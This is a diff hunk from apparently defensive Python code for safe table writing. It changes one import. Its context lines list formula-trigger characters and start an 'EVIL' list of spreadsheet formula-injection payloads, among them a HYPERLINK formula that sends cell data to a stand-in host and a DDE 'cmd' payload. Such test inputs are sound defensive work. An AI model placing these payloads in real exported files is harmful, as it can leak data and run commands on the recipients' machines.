@@ -15,7 +15,7 @@ from lookalike.records import Finding, Listing, Verdict
 from lookalike.tables.files import read_rows, writing_table
 from lookalike.tables.findings import FindingRow, finding_row, read_findings, write_findings
 from lookalike.tables.formulas import as_written, harmless_table
-from lookalike.tables.inputs import read_labels, read_verdicts
+from lookalike.tables.labels import read_labels, read_verdicts
 
 STARTS = "=+-@\t\r\n＝＋－＠"
 EVIL = ["=1+1", "=HYPERLINK(\"http://e.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
